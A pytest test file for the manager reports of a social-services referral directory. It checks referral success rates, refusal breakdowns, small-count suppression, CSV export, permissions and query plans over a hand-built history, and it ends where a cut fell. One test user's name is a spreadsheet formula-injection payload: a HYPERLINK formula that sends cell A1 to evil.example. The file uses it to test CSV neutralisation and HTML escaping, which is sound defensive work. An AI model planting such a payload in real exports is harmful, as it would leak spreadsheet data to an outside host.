"""Manager reports: every figure on a fixed history where each one is known by hand.

The history is built through the referral services on the seeded database (attempts only through
``services.record_attempt``; referral dates set directly, as the demo seed does). Sixteen referrals of
three clients, two caseworkers, three services of three organizations:

    S1 = brain hospital methadone clinic (O1, its location is in 荔湾区)
    S2 = skin institute methadone clinic (O2)
    S3 = kitchen helper job, category recovery-employer (under employment) (O3)
    clients P (越秀区) and Q (海珠区) of caseworker A; R (天河区) of caseworker B ("=HYPERLINK(…)").

    ref  client need  service  made (local)   standing attempts (day after referral: outcome)       status
    R1   P      N1    S1 @loc  2026-03-02     1 delivered                                          delivered
    R2   P      N2    S1       2026-03-03     1 no answer, 3 delivered                             delivered
    R3   P      N3    S1       2026-03-04     1 refused provider/no capacity, 2 accepted, 5 deliv. delivered
    R4   Q      N4    S1       2026-03-05     1 no answer, 2 refused family/unwilling, 4 delivered delivered
    R5   Q      N5    S1       2026-03-06     1 message, 2 call back, 3 no answer, 6 delivered     delivered
    R6   Q      N6    S1       2026-03-07     2 accepted, 10 delivered                             delivered
    R7   P      N7    S1       2026-03-08     1 refused provider/stigma drug                       refused
    R8   Q      N4    S2       2026-03-09     1 refused provider/stigma drug                       refused
    R9   Q      N9    S2       2026-03-10     1 refused provider/no capacity, 3 accepted           accepted
    R10  P      N10   S3       2026-03-11     1 no answer (need then withdrawn)                    in progress
    R11  P      N11   S3       2026-03-12     1 delivered CORRECTED to no answer, 4 refused client refused
    R12  Q      N12   S3       2026-04-01 ¹   1 refused CORRECTED to (2) accepted, 3 delivered     delivered
    R13  R      N14   S2       2026-03-13     1 refused provider/no capacity                       refused
    R14  R      N14   S1       2026-03-14     1 delivered                                          delivered
    R15  R      N15   S3       2026-03-15     none                                                 sent
    R16  P      N16   S3       2026-03-16     1 call back later                                    in progress

    ¹ 01:00 in Guangzhou = 2026-03-31 17:00 UTC: April locally, March in UTC.
    Needs met: N1–N6, N12, N14 (8); N7 unreachable, N10 withdrawn (closed, not met); others open.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from types import SimpleNamespace

import pytest
from sqlalchemy import func, select

from directory.accounts.audit import AuditEvent
from directory.accounts.permissions import can_view_reports
from directory.accounts.services import create_user
from directory.catalog.models import Service
from directory.catalog.services import local_today
from directory.extensions import db
from directory.models_base import id_from_key, utcnow
from directory.referrals import services
from directory.referrals.models import Client, Need
from directory.reports import charts, queries, tables
from directory.reports.csv import neutralise, write_csv
from directory.reports.queries import ReportFilter
from tests.conftest import PASSWORD, login

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _service(key: str) -> Service:
    return db.session.get(Service, id_from_key("service", key))


def _local(day: str, hour: int = 10) -> datetime:
    """A Guangzhou wall-clock time as aware UTC."""
    return datetime.fromisoformat(f"{day}T{hour:02d}:00:00+08:00").astimezone(UTC)


# (referral, client, need, service, made, attempts); an attempt: (day, outcome, refused_by, reason, corrects)
HISTORY = [
    ("R1", "P", "N1", "S1", "2026-03-02", [(1, "service_delivered")]),
    ("R2", "P", "N2", "S1", "2026-03-03", [(1, "no_answer"), (3, "service_delivered")]),
    (
        "R3",
        "P",
        "N3",
        "S1",
        "2026-03-04",
        [(1, "refused", "provider", "no_capacity"), (2, "accepted"), (5, "service_delivered")],
    ),
    (
        "R4",
        "Q",
        "N4",
        "S1",
        "2026-03-05",
        [(1, "no_answer"), (2, "refused", "family", "family_unwilling"), (4, "service_delivered")],
    ),
    (
        "R5",
        "Q",
        "N5",
        "S1",
        "2026-03-06",
        [(1, "left_message"), (2, "call_back_later"), (3, "no_answer"), (6, "service_delivered")],
    ),
    ("R6", "Q", "N6", "S1", "2026-03-07", [(2, "accepted"), (10, "service_delivered")]),
    ("R7", "P", "N7", "S1", "2026-03-08", [(1, "refused", "provider", "stigma_drug")]),
    ("R8", "Q", "N4", "S2", "2026-03-09", [(1, "refused", "provider", "stigma_drug")]),
    ("R9", "Q", "N9", "S2", "2026-03-10", [(1, "refused", "provider", "no_capacity"), (3, "accepted")]),
    ("R10", "P", "N10", "S3", "2026-03-11", [(1, "no_answer")]),
    (
        "R11",
        "P",
        "N11",
        "S3",
        "2026-03-12",
        [(1, "service_delivered"), (1, "no_answer", None, None, 0), (4, "refused", "client", "not_interested")],
    ),
    (
        "R12",
        "Q",
        "N12",
        "S3",
        "2026-04-01T01",
        [(1, "refused", "provider", "no_capacity"), (2, "accepted", None, None, 0), (3, "service_delivered")],
    ),
    ("R13", "R", "N14", "S2", "2026-03-13", [(1, "refused", "provider", "no_capacity")]),
    ("R14", "R", "N14", "S1", "2026-03-14", [(1, "service_delivered")]),
    ("R15", "R", "N15", "S3", "2026-03-15", []),
    ("R16", "P", "N16", "S3", "2026-03-16", [(1, "call_back_later")]),
]
NEEDS = {"S1": "methadone-clinic", "S2": "methadone-clinic", "S3": "recovery-employer"}
CLOSED = {"N1": "met", "N2": "met", "N3": "met", "N4": "met", "N5": "met", "N6": "met", "N12": "met"}
CLOSED |= {"N14": "met", "N7": "unreachable", "N10": "withdrawn"}


def _made(text: str) -> datetime:
    day, _, hour = text.partition("T")
    return _local(day, int(hour) if hour else 10)


@pytest.fixture
def history(seeded_app):
    return build_history(seeded_app)


def build_history(seeded_app) -> SimpleNamespace:
    """The history above, in the seeded app's database (also for the tests of the report pages)."""
    seeded_app.config["REPORT_MIN_CLIENTS"] = 3  # the history concerns three clients (see report())
    today = local_today()
    users = SimpleNamespace(
        a=create_user("cw-a", PASSWORD, "caseworker", display_name="Amy"),
        b=create_user("cw-b", PASSWORD, "caseworker", display_name=EVIL_NAME),
        manager=create_user("boss", PASSWORD, "manager", display_name="督导"),
        admin=create_user("root", PASSWORD, "admin"),
    )
    svc = {"S1": _service("m-brain-hospital-mmt"), "S2": _service("m-skin-institute-mmt")}
    svc["S3"] = _service("s-yuewei-kitchen-helper")
    users.agency = create_user("agency", PASSWORD, "agency_staff", organization_id=svc["S1"].organization_id)
    owners = {"P": users.a, "Q": users.a, "R": users.b}
    districts = {"P": "越秀区", "Q": "海珠区", "R": "天河区"}
    clients = {}
    for key, owner in owners.items():
        values = {"display_name": f"案主{key}", "birth_year": 1990, "phone": f"1390000{len(clients)}77"}
        client = services.create_client(owner, values | {"district": districts[key]}, {"substances": ["opioids"]})
        for category in ("drug-treatment", "employment"):
            values = {"category": category, "fields": ["name"], "purpose": "referral", "valid_from": date(2026, 1, 1)}
            services.record_consent(client, values, owner, today)
        clients[key] = client
    needs, referrals, need_owner = {}, {}, {}
    for ref, client_key, need_key, service_key, made, _ in HISTORY:
        client, owner = clients[client_key], owners[client_key]
        if need_key not in needs:
            needs[need_key] = services.add_need(client, NEEDS[service_key], f"私密目标 {need_key}", owner)
            need_owner[need_key] = owner
        service = svc[service_key]
        location = service.service_at_locations[0].location if ref == "R1" else None
        referral = services.create_referral(client, needs[need_key], service, location, owner, today)
        referral.created_at = _made(made)
        referrals[ref] = referral
    for ref, client_key, _, _, made, attempts in HISTORY:
        referral, owner, recorded = referrals[ref], owners[client_key], []
        for day, outcome, *rest in attempts:
            refused_by, reason, corrects = (rest + [None, None, None])[:3]
            moment = _made(made) + timedelta(days=day)
            values = {"occurred_at": moment, "channel": "phone", "party": refused_by or "provider", "outcome": outcome}
            values |= {"refused_by": refused_by, "refusal_reason": reason}
            values |= {"corrects_id": recorded[corrects].id if corrects is not None else None}
            recorded.append(services.record_attempt(referral, values, owner, now=moment))
    for need_key, status in CLOSED.items():
        services.close_need(needs[need_key], status, "私密结案备注", need_owner[need_key])
    # Workload: today, follow-ups and activity as the caseworkers left them.
    now = utcnow()
    referrals["R9"].next_follow_up = today - timedelta(days=2)  # overdue, and stale
    referrals["R9"].last_activity_at = now - timedelta(days=20)
    referrals["R11"].next_follow_up = today - timedelta(days=1)  # a refused referral's follow-up: overdue
    referrals["R15"].next_follow_up = today  # due today
    referrals["R16"].next_follow_up = today + timedelta(days=3)
    db.session.commit()
    return SimpleNamespace(users=users, svc=svc, clients=clients, needs=needs, referrals=referrals, today=today)


def report(**kw) -> ReportFilter:
    """A filter over the history; it concerns three clients, so the minimum is three here (the rule that
    withholds smaller selections is tested on its own)."""
    return ReportFilter(today=local_today(), now=utcnow(), **{"min_clients": 3, **kw})


def by_key(rows, field="key"):
    return {getattr(r, field): r for r in rows}


def rates(rows) -> dict:
    return {r.label: (r.referrals, r.final, r.successes) for r in rows}


# --- the figures -------------------------------------------------------------------------------------


def test_overview_rates_and_needs(history):
    o = queries.overview(report())
    assert (o.referrals, o.final, o.successes) == (16, 13, 8)  # final: 8 delivered, 4 refused, R10
    assert (o.needs_closed, o.needs_met, o.needs_met_after_refusal) == (10, 8, 2)  # N4 (R8), N14 (R13)


def test_success_by_every_dimension(history):
    f = report()
    s1, s2, s3 = (history.svc[k] for k in ("S1", "S2", "S3"))
    assert {r.key: (r.referrals, r.final, r.successes) for r in queries.success_by(f, "resource")} == {
        s1.id: (8, 8, 7),
        s2.id: (3, 2, 0),
        s3.id: (5, 3, 1),
    }
    resource = queries.success_by(f, "resource")
    assert [r.key for r in resource] == [s1.id, s3.id, s2.id]  # most final outcomes first
    assert resource[0].label == s1.name and resource[0].detail == s1.organization.name
    assert {r.key: (r.referrals, r.final, r.successes) for r in queries.success_by(f, "organization")} == {
        s1.organization_id: (8, 8, 7),
        s2.organization_id: (3, 2, 0),
        s3.organization_id: (5, 3, 1),
    }
    assert {r.key: (r.referrals, r.final, r.successes) for r in queries.success_by(f, "category")} == {
        "drug-treatment": (11, 10, 7),
        "employment": (5, 3, 1),
    }
    assert rates(queries.success_by(f, "category"))["戒毒与药物治疗"] == (11, 10, 7)
    sub = queries.success_by(report(subcategories=True), "category")
    assert {r.key: (r.referrals, r.final, r.successes) for r in sub} == {
        "methadone-clinic": (11, 10, 7),
        "recovery-employer": (5, 3, 1),
    }
    # District: the referral's location (R1 at the hospital in 荔湾区), else the client's district.
    assert {r.key: (r.referrals, r.final, r.successes) for r in queries.success_by(f, "district")} == {
        "越秀区": (6, 5, 2),
        "荔湾区": (1, 1, 1),
        "海珠区": (6, 5, 4),
        "天河区": (3, 2, 1),
    }
    a, b = history.users.a, history.users.b
    assert {r.key: (r.label, r.referrals, r.final, r.successes) for r in queries.success_by(f, "caseworker")} == {
        str(a.id): ("Amy", 13, 11, 7),
        str(b.id): (EVIL_NAME, 3, 2, 1),
    }
    # Months in Guangzhou time: R12 was made on 1 April locally (31 March in UTC).
    months = queries.success_by(f, "month")
    assert [(r.key, r.referrals, r.final, r.successes) for r in months] == [
        ("2026-03", 15, 12, 7),
        ("2026-04", 1, 1, 1),
    ]


def test_persistence_curve_attempts_per_success_and_after_refusal(history):
    f = report()
    curve = queries.attempt_curve(f)
    assert curve.final == 13
    # Delivered at attempt 1: R1, R14; 2: R2, R6, R12 (its corrected refusal does not count); 3: R3, R4; 4: R5.
    assert [(p.attempt, p.successes, p.cumulative) for p in curve.points] == [
        (1, 2, 2),
        (2, 3, 5),
        (3, 2, 7),
        (4, 1, 8),
    ]
    p = queries.persistence(f)
    # Standing attempts on the 13 final referrals: 1+2+3+3+4+2+1+1+1+2+2+1+1 (R11 and R12 without their
    # corrected entries); R9, R15 and R16 have no final outcome.
    assert (p.final, p.successes, p.attempts_on_final, p.successes_after_refusal) == (13, 8, 24, 2)


def test_median_days_to_acceptance_and_to_service(history):
    m = queries.median_days(report())
    # First acceptance or delivery: R1 1, R2 3, R3 2, R4 4, R5 6, R6 2, R9 3, R12 2, R14 1 → 1 1 2 2 [2] 3 3 4 6
    assert (m.to_acceptance, m.accepted) == (pytest.approx(2.0), 9)
    # Delivery: R1 1, R2 3, R3 5, R4 4, R5 6, R6 10, R12 3, R14 1 → 1 1 3 [3 4] 5 6 10
    assert (m.to_service, m.delivered) == (pytest.approx(3.5), 8)


def test_refusals_by_party_reason_resource_and_category(history):
    f = report()
    # Standing refusals: R3, R7, R8, R9, R13 (provider), R4 (family), R11 (client); R12's was corrected.
    assert [(r.key, r.count) for r in queries.refusals_by(f, "party")] == [
        ("provider", 5),
        ("client", 1),
        ("family", 1),
    ]
    assert [(r.key, r.count) for r in queries.refusals_by(f, "reason")] == [
        ("no_capacity", 3),
        ("stigma_drug", 2),
        ("family_unwilling", 1),
        ("not_interested", 1),
    ]
    s1, s2, s3 = (history.svc[k] for k in ("S1", "S2", "S3"))
    at = [(r.key, r.party, r.reason, r.count, r.total) for r in queries.refusals_at(f, "resource")]
    assert sorted(at) == sorted(
        [
            (s1.id, "provider", "no_capacity", 1, 3),
            (s1.id, "family", "family_unwilling", 1, 3),
            (s1.id, "provider", "stigma_drug", 1, 3),
            (s2.id, "provider", "no_capacity", 2, 3),
            (s2.id, "provider", "stigma_drug", 1, 3),
            (s3.id, "client", "not_interested", 1, 1),
        ]
    )
    assert at[-1][0] == s3.id  # the resources with the most refusals first
    categories = [(r.key, r.party, r.reason, r.count, r.total) for r in queries.refusals_at(f, "category")]
    assert categories == [
        ("drug-treatment", "provider", "no_capacity", 3, 6),
        ("drug-treatment", "provider", "stigma_drug", 2, 6),
        ("drug-treatment", "family", "family_unwilling", 1, 6),
        ("employment", "client", "not_interested", 1, 1),
    ]


def test_workload_per_caseworker_and_stale_listings(history):
    f = report()
    rows = {r.label: (r.open, r.due_today, r.overdue, r.stale) for r in queries.workload(f)}
    # A: R9 and R16 open (R10's need is closed), R9 and R11 overdue (any status, as the follow-up
    # queue), R9 quiet for 20 days. B: R15 open and due today.
    assert rows == {"Amy": (2, 0, 2, 1), EVIL_NAME: (1, 1, 0, 0)}
    # The date range does not apply to the workload.
    assert queries.workload(report(start=date(2026, 4, 1))) == queries.workload(f)
    from directory.catalog.services import stale_services

    expected = len(db.session.scalars(stale_services(local_today())).all())
    assert expected > 0 and queries.stale_listings(local_today()) == expected


def test_dashboard_is_the_same_figures_in_one_statement(history):
    f = report()
    d = queries.dashboard(f)
    assert d.overview == queries.overview(f)
    assert d.persistence == queries.persistence(f)
    assert d.medians == queries.median_days(f)
    assert d.curve == queries.attempt_curve(f)
    assert d.workload == queries.workload(f)
    for by in queries.DIMENSIONS:
        assert d.success[by] == queries.success_by(f, by)
    for by in queries.REFUSAL_GROUPS:
        assert d.refusals[by] == queries.refusals_by(f, by)
    for by in queries.REFUSAL_PLACES:
        assert d.refusals_at[by] == queries.refusals_at(f, by)


# --- filters ---------------------------------------------------------------------------------------------


def _counts(f: ReportFilter) -> tuple[int, int, int]:
    o = queries.overview(f)
    return o.referrals, o.final, o.successes


def test_date_range_is_in_guangzhou_time_both_ends_included(history):
    assert _counts(report(end=date(2026, 3, 31))) == (15, 12, 7)
    assert _counts(report(start=date(2026, 4, 1))) == (1, 1, 1)  # R12, 2026-03-31 17:00 UTC
    assert _counts(report(start=date(2026, 3, 2), end=date(2026, 3, 2))) == (1, 1, 1)  # R1
    assert _counts(report(start=date(2026, 3, 3), end=date(2026, 3, 5))) == (3, 3, 3)  # R2 R3 R4
    p = queries.persistence(report(start=date(2026, 4, 1)))
    assert (p.final, p.successes, p.attempts_on_final) == (1, 1, 2)
    assert [(r.key, r.count) for r in queries.refusals_by(report(end=date(2026, 3, 4)), "party")] == [("provider", 1)]


def test_category_district_organization_and_caseworker_filters(history):
    assert _counts(report(category="employment")) == (5, 3, 1)  # a top-level category takes its children
    assert _counts(report(category="recovery-employer")) == (5, 3, 1)
    assert _counts(report(category="methadone-clinic")) == (11, 10, 7)
    assert _counts(report(category="legal-aid")) == (0, 0, 0)
    assert _counts(report(district="海珠区")) == (6, 5, 4)
    assert _counts(report(district="荔湾区")) == (1, 1, 1)  # R1, by its location; P lives in 越秀区
    assert _counts(report(organization_id=history.svc["S2"].organization_id)) == (3, 2, 0)
    assert _counts(report(caseworker_id=history.users.b.id)) == (3, 2, 1)
    both = report(caseworker_id=history.users.a.id, category="employment")
    assert _counts(both) == (4, 3, 1)  # R10 R11 R12 R16
    assert [r.label for r in queries.workload(report(caseworker_id=history.users.b.id))] == [EVIL_NAME]
    o = queries.overview(report(organization_id=history.svc["S2"].organization_id))
    assert (o.needs_closed, o.needs_met, o.needs_met_after_refusal) == (2, 2, 2)  # N4, N14 through R8, R13


# --- the tables: small counts, rates, labels ---------------------------------------------------------------


def test_every_figure_follows_the_small_cell_rule(history):
    """Counts 1-4 hidden, larger ones rounded to 5, rates from the counts as shown - the key figures too."""
    with history_request():
        built = tables.all_tables(queries.dashboard(report()))
    overview = dict(built["overview"].rows)
    # exact: 16 referrals, 13 final, 8 successes, 8 of 10 closed needs met, 24 attempts on final ones
    assert overview["Referrals"] == "15" and overview["Referrals with a final outcome"] == "15"
    assert overview["Referrals where the client got the service"] == "10"
    assert overview["Referral success rate"] == "66.7%"  # 10 / 15, as shown (8 / 13 exactly)
    assert overview["Need fulfilment rate"] == "100.0%" and overview["Attempts per success"] == "2.50"
    assert overview["Successes after at least one refusal"] == "—"  # 2 successes: hidden
    assert overview["Needs met after a refused referral"] == "—"
    assert overview["Median days from referral to acceptance"] == "2.0"
    assert overview["Median days from referral to the service"] == "3.5"
    resource = {row[0]: row[2:] for row in built["success_resource"].rows}
    s1, s2, s3 = (history.svc[k].name for k in ("S1", "S2", "S3"))
    assert resource[s1] == ["10", "10", "5", "50.0%"]  # exact 8, 8, 7
    assert resource[s2] == ["<5", "<5", "0", "—"]  # 0 is no one: shown
    assert resource[s3] == ["5", "<5", "<5", "—"]
    districts = {row[0]: row[1:] for row in built["success_district"].rows}
    assert districts["海珠区"] == ["5", "5", "<5", "—"]  # 4 of 5: the count is hidden, so is the rate
    assert districts["荔湾区"] == ["<5", "<5", "<5", "—"]
    assert built["curve"].rows == [
        ["1", "<5", "<5", "—"],
        ["2", "<5", "5", "33.3%"],
        ["3", "<5", "5", "33.3%"],
        ["4", "<5", "10", "66.7%"],
    ]
    assert built["refusals_party"].rows == [
        ["The provider", "5", "100.0%"],
        ["The client", "<5", "—"],
        ["The family", "<5", "—"],
    ]
    assert built["refusals_at_category"].rows[0][3:] == ["<5", "5"]
    workload = {row[0]: row[1:] for row in built["workload"].rows}
    assert workload == {"Amy": ["<5", "0", "<5", "<5"], EVIL_NAME: ["<5", "<5", "0", "0"]}
    # Charts draw nothing for hidden values, and the shown values for the others.
    bars = {b.label: b.value for b in built["success_resource"].chart}
    assert bars[s1] == pytest.approx(0.5) and bars[s2] is None and bars[s3] is None


def test_cells_and_rates():
    assert [tables.count_cell(n) for n in (0, 1, 4, 5, 7, 8, 12, 13, 1236)] == [
        "0",
        "<5",
        "<5",
        "5",
        "5",
        "10",
        "10",
        "15",
        "1235",
    ]
    assert tables.rate_cell(1, 40) == "—" and tables.rate_cell(2, 5) == "—" and tables.rate_cell(0, 0) == "—"
    assert tables.rate_cell(5, 8) == "50.0%" and tables.rate_cell(0, 6) == "0.0%"


def test_two_views_one_client_apart_show_the_same_figures():
    """Differencing: two selections that differ by one client's referral give no difference to read."""
    for n in range(5, 200):
        shown, one_less = tables.shown_count(n), tables.shown_count(n - 1)
        assert shown is not None and shown % 5 == 0 and abs(shown - n) <= 2
        if n % 5 != 3:  # only between 7 and 8, 12 and 13 … does a rounded figure move, by 5
            assert one_less in (shown, None)


def test_a_selection_of_fewer_clients_than_the_minimum_shows_no_figure(seeded_app, history):
    """Caseworker B has one client: the page and every CSV show nothing about her, not even '<5'."""
    client = seeded_app.test_client()
    login(client, "boss")
    page = client.get(f"/reports?caseworker={history.users.b.id}")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "不足3位" in html or "Fewer than 3 clients" in html
    for name in tables.TABLES:
        csv_text = client.get(f"/reports/{name}.csv?caseworker={history.users.b.id}").get_data(as_text=True)
        assert len(csv_text.strip().splitlines()) == 1, name  # the header alone
    with history_request():
        alone = queries.dashboard(report(caseworker_id=history.users.b.id))
        assert alone.clients == 1 and tables.withheld(alone)
        assert all(not t.rows and not t.chart for t in tables.all_tables(alone).values())
        assert tables.withheld(queries.dashboard(report(caseworker_id=history.users.a.id)))  # P and Q: 2
        assert not tables.withheld(queries.dashboard(report()))  # P, Q and R


# --- CSV ------------------------------------------------------------------------------------------------


def test_csv_neutralises_formulas():
    for dangerous in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", EVIL_NAME):
        assert neutralise(dangerous) == "'" + dangerous
    for safe in ("Amy", "<5", "—", "12", "61.5%", "", "a=b"):
        assert neutralise(safe) == safe
    text = write_csv(["名称", "=x"], [["a,b", '引号"'], [None, 3]])
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [["名称", "'=x"], ["a,b", '引号"'], ["", "3"]]


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_csv_export_of_every_table_with_the_same_rules(seeded_app, history):
    manager = seeded_app.test_client()
    login(manager, "boss")
    for name in tables.TABLES:
        rows = read_csv(manager.get(f"/reports/{name}.csv"))
        assert len(rows) >= 2, name
        flat = "\n".join(",".join(r) for r in rows)
        for client in history.clients.values():  # no client identifier, ever
            assert client.display_name not in flat and client.id not in flat and client.phone not in flat
        assert "私密结案备注" not in flat and "私密目标" not in flat  # no note or goal leaks into a report
    caseworkers = read_csv(manager.get("/reports/success_caseworker.csv"))
    assert len(caseworkers[0]) == 5
    assert ["Amy", "15", "10", "5", "50.0%"] in caseworkers  # exact 13, 11, 7: rounded to 5
    assert ["'" + EVIL_NAME, "<5", "<5", "<5", "—"] in caseworkers  # neutralised, and small counts hidden
    workload = read_csv(manager.get("/reports/workload.csv"))
    assert ["'" + EVIL_NAME, "<5", "<5", "0", "0"] in workload
    months = read_csv(manager.get("/reports/success_month.csv?end=2026-03-31"))
    assert [row[0] for row in months[1:]] == ["2026-03"]
    sub = read_csv(manager.get("/reports/success_category.csv?subcategories=y"))
    assert {row[0] for row in sub[1:]} == {"美沙酮门诊", "接纳康复人员的用人单位"}
    overview = read_csv(manager.get("/reports/overview.csv"))
    assert len(overview) == 13 and overview[1][1] == "15"  # 16 referrals, rounded like every count


def test_unknown_table_and_bad_filters(seeded_app, history):
    manager = seeded_app.test_client()
    login(manager, "boss")
    assert manager.get("/reports/clients.csv").status_code == 404
    assert manager.get("/reports/overview.csv?start=2026-04-02&end=2026-04-01").status_code == 400
    page = manager.get("/reports?start=2026-04-02&end=2026-04-01")
    assert page.status_code == 400
    assert manager.get("/reports?district=火星区").status_code == 400
    assert manager.get("/reports?start=not-a-date").status_code == 400


# --- the page ---------------------------------------------------------------------------------------------


def test_the_page_shows_tables_charts_links_and_no_client(seeded_app, history):
    manager = seeded_app.test_client()
    login(manager, "boss")
    response = manager.get("/reports")
    body = response.get_data(as_text=True)
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "private, no-store"
    for name in tables.TABLES:
        assert f'href="/reports/{name}.csv"' in body
    assert body.count("<svg") >= 10 and 'style="' not in body.split("<main", 1)[1]
    assert "Amy" in body and "&lt;5" in body and "50.0%" in body
    assert "=HYPERLINK(&#34;" in body or "=HYPERLINK(&quot;" in body  # a name is escaped, never markup
    for client in history.clients.values():
        assert client.display_name not in body and client.phone not in body and client.id not in body
    assert "/manage/stale" not in body  # a manager cannot open the stale list: the count only
    # Filters go along with the CSV links.
    filtered = manager.get("/reports?district=海珠区&caseworker=" + str(history.users.a.id)).get_data(as_text=True)
    assert "/reports/success_resource.csv?" in filtered and "district=" in filtered
    admin = seeded_app.test_client()
    login(admin, "root")
    assert 'href="/manage/stale"' in admin.get("/reports").get_data(as_text=True)


def test_the_page_builds_only_the_rows_it_shows(history):
    """The long tables hold their first rows on the page, with the count of all and the same chart; the
    CSV export (no limit) has every row."""
    with history_request():
        d = queries.dashboard(report())
        full, paged = tables.all_tables(d), tables.all_tables(d, limit=1)
        for name, table in full.items():
            shown = paged[name]
            assert shown.row_count == len(table.rows), name
            if name in tables.PAGED:
                assert shown.rows == table.rows[:1], name
            else:
                assert shown.rows == table.rows, name
            assert charts.chart_for(shown) == charts.chart_for(table), name
        assert len(paged["refusals_at_resource"].rows) == 1 and paged["refusals_at_resource"].row_count == 6


def test_the_dashboard_can_read_the_refusals_of_the_top_places_only(history):
    """With top_places the refusals per resource are the rows of the resources with the most refusals,
    ties included (S1 and S2 have 3 each, S3 1): the first rows of the whole table, which it counts."""
    f = report()
    whole, top = queries.dashboard(f), queries.dashboard(f, top_places=1)
    s1, s2 = history.svc["S1"].id, history.svc["S2"].id
    assert {r.key for r in top.refusals_at["resource"]} == {s1, s2}
    assert top.refusals_at["resource"] == whole.refusals_at["resource"][:5]
    assert top.refusals_at["category"] == whole.refusals_at["category"][:3]  # drug treatment: 6, employment: 1
    assert top.refusal_rows == whole.refusal_rows == {"resource": 6, "category": 4}
    assert (top.overview, top.success, top.refusals) == (whole.overview, whole.success, whole.refusals)
    with history_request():
        shown, full = tables.all_tables(top, limit=2), tables.all_tables(whole)
    assert shown["refusals_at_resource"].rows == full["refusals_at_resource"].rows[:2]
    assert shown["refusals_at_resource"].row_count == 6 and shown["refusals_at_category"].row_count == 4


def test_one_statement_per_filter_shape_with_the_values_bound(history):
    """The statements are made once per shape of filter; the values are parameters, so two districts (or
    two date ranges) share a statement and still get their own figures."""
    names = queries.STATEMENTS[1]
    here, there = report(district="海珠区"), report(district="荔湾区")
    assert queries._statement(here, names) is queries._statement(there, names)
    assert queries._statement(here, names) is not queries._statement(report(), names)
    assert _counts(here) == (6, 5, 4) and _counts(there) == (1, 1, 1)
    march, april = report(end=date(2026, 3, 31)), report(start=date(2026, 4, 1))
    assert _counts(march) == (15, 12, 7) and _counts(april) == (1, 1, 1)
    assert _counts(report(start=date(2026, 3, 3), end=date(2026, 3, 5))) == (3, 3, 3)


def test_the_page_runs_the_same_statements_however_many_rows(seeded_app, history):
    """No statement per row: one more referral, refusal and caseworker row change no statement count."""
    from sqlalchemy import event

    manager = seeded_app.test_client()
    login(manager, "boss")
    statements: list[str] = []

    def count(conn, cursor, statement, *args):
        statements.append(statement)

    def page_statements() -> int:
        statements.clear()
        event.listen(db.engine, "before_cursor_execute", count)
        try:
            assert manager.get("/reports").status_code == 200
        finally:
            event.remove(db.engine, "before_cursor_execute", count)
        return len(statements)

    page_statements()  # the first view reads the taxonomy, kept per catalog version for the next ones
    before = page_statements()
    assert before <= 13  # user, filter choices, the two figure statements, labels, stale listings, the bell
    user = create_user("cw-c", PASSWORD, "caseworker", display_name="Cai")
    client = services.create_client(user, {"display_name": "案主S", "district": "白云区"}, {})
    consent = {"category": "drug-treatment", "fields": ["name"], "purpose": "referral", "valid_from": date(2026, 1, 1)}
    services.record_consent(client, consent, user, local_today())
    need = services.add_need(client, "methadone-clinic", "目标", user)
    referral = services.create_referral(client, need, history.svc["S2"], None, user, local_today())
    values = {"occurred_at": utcnow(), "channel": "phone", "party": "provider", "outcome": "refused"}
    services.record_attempt(referral, values | {"refused_by": "provider", "refusal_reason": "cost"}, user)
    db.session.commit()
    assert page_statements() == before


def test_the_dashboard_reads_the_report_indexes_on_sqlite(history):
    """Each breakdown reads its covering index (no sort of the referrals, no look-up of a row): a change
    to a query or an index that loses this fails here, not months later at a million rows."""
    if db.engine.dialect.name != "sqlite":
        pytest.skip("the expression indexes and EXPLAIN QUERY PLAN are SQLite's")
    f = report()
    plans = []
    with db.engine.connect() as conn:
        for names in queries.STATEMENTS:
            statement = queries._statement(f, names).params(queries._parameters(f))
            statement = statement.compile(db.engine, compile_kwargs={"render_postcompile": True})
            unbound = tuple(None for _ in statement.positiontup)  # a plan is made before values are bound
            plans += [row[3] for row in conn.exec_driver_sql(f"EXPLAIN QUERY PLAN {statement}", unbound)]
    used = {word for line in plans for word in line.split() if word.startswith("ix_referral")}
    assert used >= {
        "ix_referral_report_service",
        "ix_referral_report_need",
        "ix_referral_report_category",
        "ix_referral_report_district",
        "ix_referral_report_caseworker",
        "ix_referral_report_month",
        "ix_referral_report_days_to_acceptance",
        "ix_referral_report_days_to_service",
        "ix_referral_refusal_report_service",
        "ix_referral_refusal_report_category",
    }, plans
    assert not [line for line in plans if line.startswith("SCAN referral") and "INDEX" not in line][1:], plans


def test_the_page_works_on_an_empty_database(app):
    create_user("boss", PASSWORD, "manager")
    db.session.commit()
    manager = app.test_client()
    login(manager, "boss")
    response = manager.get("/reports")
    assert response.status_code == 200
    assert read_csv(manager.get("/reports/curve.csv"))[1:] == []


@pytest.mark.parametrize("who", ["cw-a", "agency"])
@pytest.mark.parametrize("path", ["/reports", "/reports/overview.csv", "/reports/success_caseworker.csv"])
def test_caseworkers_and_agency_staff_get_403_and_an_audit_row(seeded_app, history, who, path):
    client = seeded_app.test_client()
    login(client, who)
    before = db.session.scalar(select(func.count()).select_from(AuditEvent))
    response = client.get(path)
    assert response.status_code == 403
    assert "87.5%" not in response.get_data(as_text=True)  # no figure
    event = db.session.scalars(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
    assert db.session.scalar(select(func.count()).select_from(AuditEvent)) == before + 1
    assert (event.action, event.object_type, event.username, event.path) == ("denied", "report", who, path)


@pytest.mark.parametrize("path", ["/reports", "/reports/overview.csv"])
def test_anonymous_is_sent_to_log_in(seeded_app, history, path):
    response = seeded_app.test_client().get(path)
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_who_may_view_reports():
    def user(role):
        return SimpleNamespace(role=role, organization_id=None, is_authenticated=True)

    assert [can_view_reports(user(r)) for r in ("caseworker", "agency_staff", "manager", "admin")] == [
        False,
        False,
        True,
        True,
    ]
    assert not can_view_reports(None)
    assert not can_view_reports(SimpleNamespace(role="admin", organization_id=None, is_authenticated=False))


# --- charts ---------------------------------------------------------------------------------------------


def test_charts_are_svg_without_inline_styles_and_escape_labels():
